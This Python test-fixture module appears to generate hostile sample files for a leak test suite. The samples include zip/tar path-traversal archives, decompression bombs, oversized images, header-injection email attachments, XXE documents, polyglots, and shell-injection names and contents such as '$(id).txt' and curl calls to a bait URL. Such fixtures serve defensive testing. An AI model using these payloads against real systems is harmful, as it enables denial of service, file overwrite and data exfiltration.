"""Hostile containers and pictures: archives, mails, images, pages, and files that lie about themselves."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from email.message import EmailMessage

from tests.leaks.hostile import BOMB, Bait, add, file, zipped
from tests.leaks.hostile_documents import DOCUMENT_XXE, docx, pdf, xxe
from tests.outlook import outlook_mail

# archives


def _tar(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for info, content in members:
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def _link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, b""


def _zip_link(bait: Bait) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("verweis.txt")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, str(bait.canary))
    return out.getvalue()


def _overlapping() -> bytes:
    """Return an archive whose directory names one member a thousand times over."""
    data = zipped({"null.txt": bytes(10_000_000)})
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry, closing = data[start:end], bytearray(data[end:])
    struct.pack_into("<HHII", closing, 8, 1000, 1000, len(entry) * 1000, start)
    return data[:start] + entry * 1000 + bytes(closing)


def _lying_size() -> bytes:
    data = bytearray(zipped({"klein.txt": bytes(120_000_000)}))
    for sign, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", data, data.index(sign) + place, 10)
    return bytes(data)


def _nested(levels: int, width: int) -> bytes:
    inner = zipped({"null.txt": bytes(3_000_000)})
    for level in range(levels):
        inner = zipped({f"{level}-{n}.zip": inner for n in range(width)})
    return inner


_SLIPS = ("../../../../tmp/{0}-1", "/tmp/{0}-2", "..\\..\\{0}-3", "C:\\{0}-4", "a/../../{0}-5", "/dev/shm/{0}-6")  # noqa: S108
add("zip-slip.zip", lambda b: zipped({name.format(b.escape): "Beispiel" for name in _SLIPS}))
add("zip-link.zip", _zip_link)
add("zip-flat.zip", lambda _: zipped({"null.txt": bytes(250_000_000)}))
add("zip-overlapping.zip", lambda _: _overlapping())
add("zip-lying.zip", lambda _: _lying_size())
add("zip-nested.zip", lambda _: _nested(5, 4))
add("zip-many.zip", lambda _: zipped({f"{n}": b"" for n in range(60_000)}, zipfile.ZIP_STORED))
add(
    "zip-devices.zip",
    lambda _: zipped(dict.fromkeys(("CON", "NUL.txt", "a\x01b", "\u202egnp.exe", ".", ".."), "Beispiel")),
)
add("tar-slip.tar", lambda b: _tar(*((tarfile.TarInfo(n.format(f"{b.escape}-tar")), b"Beispiel") for n in _SLIPS)))
add("tar-links.tar", lambda b: _tar(_link("a", str(b.canary)), _link("b", str(b.canary), tarfile.LNKTYPE)))
add("tar-bomb.tar.gz", lambda _: gzip.compress(_tar((tarfile.TarInfo("null"), bytes(BOMB))), 1))
add("gz-bomb.gz", lambda _: gzip.compress(bytes(BOMB), 1))
add("gz-twice.gz", lambda _: gzip.compress(gzip.compress(bytes(BOMB), 1)))
add("bz2-bomb.bz2", lambda _: bz2.compress(bytes(20_000_000)) * 20)
add("xz-bomb.xz", lambda _: lzma.compress(bytes(BOMB), preset=0))
add("lzma-memory.lzma", lambda _: b"\x5d\xff\xff\xff\xff" + b"\xff" * 8 + bytes(1_000))


# pictures


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *more: bytes) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = _chunk(b"IDAT", zlib.compress(bytes(20_000_000), 1))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + pixels + _chunk(b"IEND", b"")


def _tiff(*fields: tuple[int, int, int, int], following: int = 0) -> bytes:
    entries = b"".join(struct.pack("<HHII", *f) for f in fields)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(fields)) + entries + struct.pack("<I", following)


_GIANT = ((256, 4, 1, 200_000), (257, 4, 1, 200_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 0))
add("png-giant.png", lambda _: _png(60_000, 60_000))
add("png-text.png", lambda _: _png(10, 10, _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(BOMB), 1))))
add("png-profile.png", lambda _: _png(10, 10, _chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(BOMB), 1))))
add("tiff-giant.tif", lambda _: _tiff(*_GIANT))
add("tiff-circle.tif", lambda _: _tiff((256, 4, 1, 1), (257, 4, 1, 1), following=8))
add("tiff-many.tif", lambda _: _tiff((256, 4, 0xFFFFFFF, 8), (34665, 4, 1, 8), (330, 4, 1, 8)))
add("jpeg-giant.jpg", lambda _: b"\xff\xd8\xff\xc0\x00\x0b\x08\xff\xff\xff\xff\x01\x01\x11\x00\xff\xda" + bytes(900))
add(
    "gif-giant.gif",
    lambda _: b"GIF89a\xff\xff\xff\xff\x80\0\0" + b"\xff" * 6 + b",\0\0\0\0\xff\xff\xff\xff\0\x08" + bytes(900),
)
add(
    "bmp-giant.bmp",
    lambda _: b"BM" + struct.pack("<IHHIIiiHHI", 54, 0, 0, 54, 40, 60_000, 60_000, 1, 24, 0) + bytes(900),
)


# mail


def _mail(body: str = "Beispiel", kind: str = "plain") -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@beispiel.example", "b@beispiel.example", "Beispiel"
    mail.set_content(body, subtype=kind)
    return mail


def _raw_mail(kind: str, body: str, more: str = "") -> bytes:
    head = "From: a@beispiel.example\r\nTo: b@beispiel.example\r\nSubject: Beispiel\r\nMIME-Version: 1.0"
    return f"{head}\r\nContent-Type: {kind}\r\n{more}\r\n{body}".encode()


def _mail_in_mail(levels: int) -> bytes:
    inner = b"Subject: Beispiel\r\nFrom: a@beispiel.example\r\n\r\nBeispiel"
    for _ in range(levels):
        inner = b"Subject: x\r\nFrom: a@beispiel.example\r\nContent-Type: message/rfc822\r\n\r\n" + inner
    return inner


@file("mail-names.eml")
def _names(bait: Bait) -> bytes:
    mail = _mail()
    for name in (
        f"../../{bait.escape}-mail",
        f"/tmp/{bait.escape}-mail",  # noqa: S108
        "a\r\nBcc: x@y.example",
        "$(id).txt",
        "\u202etxt.exe",
    ):
        mail.add_attachment(
            b"Beispiel", maintype="application", subtype="octet-stream", filename=name.replace("\r\n", " ")
        )
    return mail.as_bytes()


_ENCODED = "Content-Transfer-Encoding: base64\r\n"
_BLOB = base64.encodebytes(bytes(range(256)) * 40).decode()
add("mail-in-mail.eml", lambda _: _mail_in_mail(300))
add("mail-parts.eml", lambda _: _raw_mail('multipart/mixed; boundary="x"', "--x\r\n\r\na\r\n" * 50_000 + "--x--"))
add(
    "mail-sealed.eml",
    lambda _: _raw_mail(
        "application/pkcs7-mime; smime-type=enveloped-data", _BLOB, "Content-Transfer-Encoding: base64\r\n"
    ),
)
add(
    "mail-signed.eml",
    lambda _: _raw_mail(
        'multipart/signed; protocol="application/pkcs7-signature"; boundary="x"',
        f"--x\r\n\r\nBeispiel\r\n--x\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{_BLOB}\r\n--x--",
    ),
)
add(
    "mail-outside-body.eml",
    lambda b: _raw_mail(f'message/external-body; access-type=URL; URL="{b.url("external")}"', "\r\n"),
)
add(
    "mail-pictures.eml",
    lambda b: _mail(
        f'<img src="{b.url("mail-img")}"><link rel=stylesheet href="{b.url("mail-css")}">Beispiel', "html"
    ).as_bytes(),
)
add(
    "mail-long-head.eml",
    lambda _: b"From: a@b.example\r\nTo: b@b.example\r\nSubject: " + b"A" * 5_000_000 + b"\r\n\r\nx",
)
add("mail-tnef.dat", lambda _: struct.pack("<IHBIIIH", 0x223E9F78, 1, 2, 0x0006900F, 0xFFFFFFFF, 0, 0) + bytes(500))
add(
    "mail-outlook.msg", lambda b: outlook_mail("Beispiel", f"Siehe {b.url('msg')}", {f"../{b.escape}-msg": b"Beispiel"})
)


@file("mail-outlook-nested.msg")
def _outlook_nested(_: Bait) -> bytes:
    inner = b"Beispiel"
    for level in range(12):
        inner = outlook_mail(f"Ebene {level}", "x", {f"ebene-{level}.msg": inner})
    return inner


# pages, links, what programs of other kinds open


add(
    "html-outside.html",
    lambda b: (
        f'<base href="{b.url("base/")}"><script src="{b.url("script")}"></script><img src="{b.url("img")}">'
        f'<iframe src="file://{b.canary}"></iframe><object data="file://{b.canary}"></object>'
        f'<meta http-equiv=refresh content="0;url={b.url("refresh")}"><link rel=import href="{b.url("import")}">'
    ).encode(),
)
add("html-deep.html", lambda _: b"<div><table><tr><td>" * 60_000 + b"Beispiel")
add(
    "html-data.html",
    lambda _: b'<img src="data:image/png;base64,' + base64.b64encode(_png(60_000, 60_000)) + b'">Beispiel',
)
add("link.url", lambda b: f"[InternetShortcut]\r\nURL={b.url('shortcut')}\r\n".encode())
add("playlist.m3u8", lambda b: f"#EXTM3U\n#EXTINF:1,\n{b.url('playlist')}\nfile://{b.canary}\n".encode())
add("film.mp4", lambda b: b"\0\0\0\x18ftypmp42" + bytes(8) + f"$(curl {b.url('film')})".encode() + bytes(500))
add("$(curl 127.0.0.1)`id`;x.mp4", lambda _: b"\0\0\0\x18ftypmp42" + bytes(400))
add("lines.txt", lambda _: b"\n" * 5_000_000 + b"Beispiel")
add("table.csv", lambda b: f'=HYPERLINK("{b.url("csv")}";"Beispiel")\n{";" * 2_000_000}\n'.encode())


# what lies about itself


add("lie-pdf-and-zip.pdf", lambda b: pdf() + zipped({f"../{b.escape}-polyglot": "Beispiel"}))
add("lie-gif-and-page.gif", lambda b: b"GIF89a/*" + f'*/<script src="{b.url("gif")}"></script>'.encode())
add("lie-program.pdf", lambda _: b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(500))
add("lie-elf.docx", lambda _: b"\x7fELF\x02\x01\x01" + bytes(500))
add("lie-script.jpg", lambda b: f"#!/bin/sh\ncurl {b.url('script-jpg')}\n".encode())
add("lie-xml.docx", lambda b: xxe(b, "xml-as-docx").encode())
add("lie-docx.txt", lambda b: docx(document=xxe(b, "docx-as-text", inner=DOCUMENT_XXE)))
